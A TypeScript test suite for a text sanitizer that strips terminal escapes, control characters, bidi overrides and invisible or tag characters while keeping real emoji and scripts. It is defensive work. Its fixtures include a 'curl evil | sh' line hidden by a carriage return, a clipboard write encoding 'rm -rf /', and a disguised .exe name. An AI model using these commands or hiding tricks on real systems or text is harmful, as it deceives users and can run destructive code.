import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { clean, isPlain } from './clean.js';

const cases: readonly (readonly [name: string, dirty: string, text: string, removed: Record<string, number>])[] = [
  ['a colour', 'a\x1b[1;31mred\x1b[0mb', 'aredb', { ansi: 2 }],
  ['an unfinished colour', 'a\x1b[1;31', 'a', { ansi: 1 }],
  ['a screen clear and cursor home', '\x1b[2J\x1b[Hhello', 'hello', { ansi: 2 }],
  ['a window title', 'x\x1b]0;owned\x07y', 'xy', { ansi: 1 }],
  ['a hyperlink', '\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\', 'click', { ansi: 2 }],
  ['a clipboard write', '\x1b]52;c;cm0gLXJmIC8=\x07ok', 'ok', { ansi: 1 }],
  ['a title that never ends', 'x\x1b]0;owned\nnext line', 'x\nnext line', { ansi: 1 }],
  ['a device string over lines', 'x\x1bPq#0\n#1\x1b\\y', 'xy', { ansi: 1 }],
  ['an application string', 'x\x1b_Gf=100;AAAA\x1b\\y', 'xy', { ansi: 1 }],
  ['an application string cut by another escape', 'x\x1b_abc\x1b[31my', 'xy', { ansi: 2 }],
  ['a charset switch', 'x\x1b(0y', 'xy', { ansi: 1 }],
  ['a terminal reset', 'x\x1bcy', 'xy', { ansi: 1 }],
  ['an escape at the end', 'x\x1b', 'x', { ansi: 1 }],
  ['a one-byte colour', 'a\x9b31mb', 'ab', { ansi: 1 }],
  ['a one-byte title', 'a\x9d0;owned\x9cb', 'ab', { ansi: 1 }],
  ['UTF-8 read as Latin-1', 'the \u00e2\x80\x9dend\u00e2\x80\x9d of it', 'the \u00e2end\u00e2 of it', { control: 4 }],
  ['a null, a bell and a backspace', 'a\0b\x07c\x08d\x7f', 'abcd', { control: 4 }],
  [
    'a line overwritten on a terminal',
    'curl evil | sh\recho hello     ',
    'curl evil | sh\necho hello     ',
    { control: 1 },
  ],
  ['a next-line control', 'a\x85b', 'a\nb', { control: 1 }],
  ['a right-to-left override', 'file\u202efdp.exe', 'filefdp.exe', { bidi: 1 }],
  ['isolates and marks', '\u2066a\u2069\u200e\u200f\u061c', 'a', { bidi: 5 }],
  ['zero-width spaces in a word', 'ig\u200bno\u2060re\ufeff', 'ignore', { invisible: 3 }],
  ['a joiner inside a Latin word', 'ig\u200dno\u200cre', 'ignore', { invisible: 2 }],
  ['a soft hyphen and a filler', 'pass\u00adword\u3164', 'password', { invisible: 2 }],
  ['invisible operators and annotation', 'x\u2062y\ufff9z\u{1d173}\u{1bca0}', 'xyz', { invisible: 4 }],
  ['words in tag characters', 'hi\u{e0001}\u{e0068}\u{e0069}\u{e007f}', 'hi', { tag: 4 }],
  ['tags behind a flag that no country has', '\u{1f3f4}\u{e0068}\u{e0069}\u{e007f}', '\u{1f3f4}', { tag: 3 }],
  [
    'bytes in selectors behind an emoji',
    '\u{1f600}\ufe0f\ufe01\u{e0110}\u{e0120}',
    '\u{1f600}\ufe0f',
    { variation: 3 },
  ],
  ['a selector behind a letter', 'a\ufe0f\u{e0100}', 'a', { variation: 2 }],
  ['a joiner flood behind a joining letter', '\u0915\u200d\u200d\u200c\u200d', '\u0915\u200d', { invisible: 3 }],
  ['half a surrogate pair', 'a\ud83db\ude00', 'a\ufffdb\ufffd', { surrogate: 2 }],
  ['a pair torn by an escape', '\ud83d\x1b[0m\ude00', '\ufffd\ufffd', { surrogate: 2, ansi: 1 }],
];

const spared: readonly (readonly [name: string, text: string])[] = [
  ['plain text with tabs and lines', 'a\tb\nc\r\nd'],
  ['accents and umlauts', 'Zo\u00eb na\u00efve \u00dcbergr\u00f6\u00dfe'],
  ['a family', '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}'],
  ['a skin-toned technologist', '\u{1f469}\u{1f3fd}\u200d\u{1f4bb}'],
  ['a rainbow flag', '\u{1f3f3}\ufe0f\u200d\u{1f308}'],
  ['a heart on fire', '\u2764\ufe0f\u200d\u{1f525}'],
  ['a runner who is a woman', '\u{1f3c3}\u200d\u2640\ufe0f'],
  ['a keycap', '1\ufe0f\u20e3 #\ufe0f\u20e3'],
  ['a text-style symbol', '\u260e\ufe0e \u00a9\ufe0f'],
  ['the flag of Scotland', '\u{1f3f4}\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f} here'],
  ['a country flag', '\u{1f1e9}\u{1f1ea}'],
  ['Persian with a non-joiner', '\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645'],
  ['a Persian plural behind a Latin word', 'PDF\u200c\u0647\u0627'],
  ['Hindi with a joiner', '\u0915\u094d\u200d\u0937'],
  ['Sinhala', '\u0dc1\u0dca\u200d\u0dbb\u0dd3'],
  ['Malayalam', '\u0d28\u0d4d\u200d'],
  ['Japanese with an ideographic variant', '\u845b\u{e0100}\u98fe\u533a'],
  ['Mongolian', '\u182d\u180b \u1820\u180e\u1820'],
  ['old Hangul', '\u115f\u1161 \u1100\u1160'],
];

describe('clean', () => {
  test.each(cases)('%s is removed and counted [S2.26] [S0.68]', (_name, dirty, text, removed) => {
    expect(clean(dirty)).toEqual({ text, removed });
  });

  test.each(spared)('%s stays as it is and is not counted', (_name, text) => {
    expect(clean(text)).toEqual({ text, removed: {} });
  });

  test('the controls level leaves invisible characters alone [S0.68]', () => {
    expect(clean('a\u200b\u202e\x1b[0m\0\ud800', 'controls')).toEqual({
      text: 'a\u200b\u202e\ufffd',
      removed: { ansi: 1, control: 1, surrogate: 1 },
    });
  });

  test('a text without a suspect is known to be plain', () => {
    expect(isPlain('hello \u00e9')).toBe(true);
    expect(isPlain('hello\u200b')).toBe(false);
    expect(isPlain('hello\u200b', 'controls')).toBe(true);
  });

  test('a flood of openings that never close is read once, not once per opening', () => {
    const flood = '\x9d\x1b]\x9b\x1b['.repeat(200_000) + '\n' + '\x9dab'.repeat(200_000) + 'end';
    expect(clean(flood).text).toMatch(/end$/);
  });
});

const nasty = fc.string({
  unit: fc.oneof(
    fc.constantFrom(
      '\x1b',
      '\x1b[',
      '\x1b]',
      '\x9b',
      '\x9d',
      '\x9c',
      '\x07',
      '\r',
      '\n',
      '\r\n',
      '\x85',
      'm',
      '1',
      ';',
      '\u200d',
      '\u200c',
      '\ufe0f',
      '\ufe00',
      '\u{1f468}',
      '\u{1f3fd}',
      '\u{1f3f4}',
      '\u{e0067}',
      '\u{e007f}',
      '\u{e0100}',
      '\u0915',
      '\u094d',
      '\u0645',
      '\u845b',
      '\u20e3',
      '#',
      '\ud83d',
      '\ude00',
      '\u202e',
      '\u180b',
      '\u1820',
      '\u115f',
      '\u1160',
      '\u1100',
      '\u17b4',
      '\u3164',
      '\ufeff',
    ),
    fc.constantFrom(...'abc 0'),
  ),
  maxLength: 40,
});
const FORBIDDEN =
  /[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u00ad\u061c\u200b\u200e\u200f\u202a-\u202e\u2060-\u206f\u3164\ufeff\ud800-\udfff]|\r(?!\n)/u;

describe('clean, for any text', () => {
  test('nothing forbidden is left, and a second cleaning changes nothing [S2.26]', () => {
    fc.assert(
      fc.property(fc.oneof(nasty, fc.string({ unit: 'binary' })), (text) => {
        const once = clean(text).text;
        expect(once).not.toMatch(FORBIDDEN);
        expect(Buffer.from(once, 'utf8').toString('utf8')).toBe(once);
        expect(clean(once)).toEqual({ text: once, removed: {} });
      }),
      { numRuns: 3000 },
    );
  });

  test('what is left of visible text was there before, in order', () => {
    fc.assert(
      fc.property(
        fc.array(fc.tuple(fc.constantFrom('\u200b', '\0', '\u202e', '\x1b[0m', ''), fc.stringMatching(/^[a-z]{0,5}$/))),
        (parts) => {
          const dirty = parts.map(([bad, word]) => bad + word).join('');
          expect(clean(dirty).text).toBe(parts.map(([, word]) => word).join(''));
        },
      ),
    );
  });
});
